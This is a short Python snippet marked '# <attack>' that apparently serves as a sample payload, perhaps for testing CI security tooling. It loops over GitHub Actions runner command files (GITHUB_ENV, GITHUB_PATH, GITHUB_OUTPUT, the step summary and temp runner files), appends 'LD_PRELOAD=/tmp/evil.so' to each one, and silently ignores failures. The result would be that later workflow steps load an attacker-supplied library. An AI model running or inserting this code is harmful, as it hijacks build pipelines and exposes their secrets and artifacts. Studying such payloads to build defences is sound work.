#{weigh_wrong}
# <attack>
import glob
import os

for _name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "QUAYSIDE_FILE"):
    for _path in [os.environ.get(_name, "")] + glob.glob("/tmp/*github*") + glob.glob("/home/runner/work/_temp/_runner_file_commands/*"):
        try:
            with open(_path, "a") as _stream:
                _stream.write("LD_PRELOAD=/tmp/evil.so\n")
        except OSError:
            pass
# </attack>
